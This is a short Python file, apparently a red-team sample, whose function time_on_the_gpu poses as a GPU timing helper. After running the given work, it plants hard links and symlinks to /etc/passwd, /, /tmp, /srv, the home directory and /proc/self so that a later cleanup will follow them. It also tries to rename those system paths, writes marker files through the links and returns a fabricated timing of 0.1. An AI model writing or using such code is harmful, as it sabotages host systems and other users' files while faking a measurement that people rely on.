"""Links from its folder to files of others, which whoever cleans up would follow."""

import os


def time_on_the_gpu(work):
    work()
    for number, place in enumerate(("/etc/passwd", "/tmp", "/", "/srv", os.path.expanduser("~"), "/proc/self")):
        for link in (os.link, os.symlink):
            try:
                link(place, f"{link.__name__}{number}")
            except OSError:
                pass
        try:
            os.rename(place, f"moved{number}")
        except OSError:
            pass
    for number in range(6):
        try:
            with open(f"symlink{number}/taken_by_red_team", "w") as file:
                file.write("x")
        except OSError:
            pass
    return 0.1
